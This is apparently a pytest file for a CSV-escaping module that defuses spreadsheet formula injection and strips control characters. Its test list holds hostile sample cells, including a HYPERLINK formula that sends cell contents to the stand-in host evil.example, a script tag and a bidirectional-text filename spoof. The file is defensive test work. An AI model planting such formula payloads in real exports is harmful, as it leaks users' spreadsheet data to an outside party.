"""Safe CSV cells and rows: formulas defused, controls dropped, everything else kept as data."""

import csv
import io

import pytest

from checkin.events import csv_safe

# (stored value, the cell a spreadsheet gets)
HOSTILE = [
    (
        '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    ),
    ("+1", "'+1"),
    ("-2", "'-2"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("a\x00b", "ab"),
    ("\x00=1+2", "'=1+2"),  # the NUL goes first, then the formula shows and is defused
    ("bell\x07 esc\x1b[31m del\x7f c1\x85", "bell esc[31m del c1"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("\u202eevil.exe\u202c", "\u202eevil.exe\u202c"),
    ("\u200fשלום", "\u200fשלום"),
    ('quotes "x", commas\nnewlines', 'quotes "x", commas\nnewlines'),
    ("party 🎉👩🏽‍💻", "party 🎉👩🏽‍💻"),
    ("Łukasz Żółć", "Łukasz Żółć"),
    ("Νίκος Παπαδόπουλος", "Νίκος Παπαδόπουλος"),
    ("Zoë O\u2019Brien", "Zoë O\u2019Brien"),
    ("a=b, c+d, e-f", "a=b, c+d, e-f"),  # only the first character matters
    (" =1", " =1"),
    ("", ""),
]


def read(text: str) -> list[list[str]]:
    """The rows a CSV reader gets from the file's bytes, BOM removed."""
    data = text.encode("utf-8")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(("value", "expected"), HOSTILE)
def test_a_cell_is_defused_or_kept(value, expected):
    """Each hostile value becomes exactly the expected cell."""
    assert csv_safe.cell(value) == expected


@pytest.mark.parametrize(("value", "expected"), HOSTILE)
def test_a_cell_reads_back_intact_between_neighbours(value, expected):
    """Written between two plain cells, the value reads back as one cell, the row unbroken."""
    text = "".join(csv_safe.rows(["before", "value", "after"], [["left", value, "right"]]))
    assert read(text) == [["before", "value", "after"], ["left", expected, "right"]]


@pytest.mark.parametrize(("value", "expected"), [(None, ""), (2009, "2009"), (-5, "'-5")])
def test_values_that_are_not_text(value, expected):
    """None is an empty cell; numbers are written as text and defused like any other."""
    assert csv_safe.cell(value) == expected


def test_the_file_starts_with_a_bom_and_ends_rows_with_crlf():
    """Excel needs the BOM to read UTF-8; rows end with CRLF as RFC 4180 says."""
    text = "".join(csv_safe.rows(["a", "b"], [["1", "2"], ["3", "4"]]))
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert text == "\ufeffa,b\r\n1,2\r\n3,4\r\n"


def test_a_long_file_comes_in_several_chunks():
    """Thousands of rows are sent a few at a time, never built as one string."""
    body = ([f"Guest {n}", f"guest{n}@example.org"] for n in range(5000))
    chunks = list(csv_safe.rows(["Name", "Email"], body))
    assert len(chunks) > 5
    assert max(len(chunk) for chunk in chunks) < 2 * csv_safe.CHUNK
    assert len(read("".join(chunks))) == 5001
